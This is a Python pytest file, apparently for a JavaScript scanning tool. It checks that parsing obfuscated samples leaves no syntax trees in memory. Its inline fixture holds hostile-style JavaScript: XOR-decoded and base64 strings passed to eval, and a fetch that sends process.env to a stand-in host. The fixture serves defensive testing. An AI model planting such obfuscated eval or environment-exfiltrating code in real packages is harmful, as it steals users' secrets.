"""What was read is let go of at once: trees of large files fill a worker if they wait to be collected."""

from __future__ import annotations

import gc
from pathlib import Path

import pytest

from assay.javascript.read import read
from assay.javascript.syntax import Syntax

_HIDDEN = b"""
const key = 7, table = [104, 105];
function code(each) { const inner = (n) => n ^ key; return String.fromCharCode(inner(each)); }
let text = ''; for (const each of table) text += code(each);
eval(text); eval(atob('Y29uc29sZS5sb2coMSk=')); fetch('https://a.invalid/' + text, {body: process.env});
class Made { send = text; go() { return this.send; } } eval(new Made().go());
"""
_OBFUSCATED = sorted((Path(__file__).parent / "unveil/obfuscated").iterdir())


@pytest.mark.parametrize(
    "source",
    [_HIDDEN, *(file.read_bytes() for file in _OBFUSCATED)],
    ids=["plain", *(file.stem for file in _OBFUSCATED)],
)
def test_nothing_keeps_a_tree(source: bytes) -> None:
    gc.collect()
    before = sum(isinstance(each, Syntax) for each in gc.get_objects())
    gc.disable()
    try:
        read("a.js", source, ("main", "postinstall"), whole=True)
        assert sum(isinstance(each, Syntax) for each in gc.get_objects()) == before
    finally:
        gc.enable()
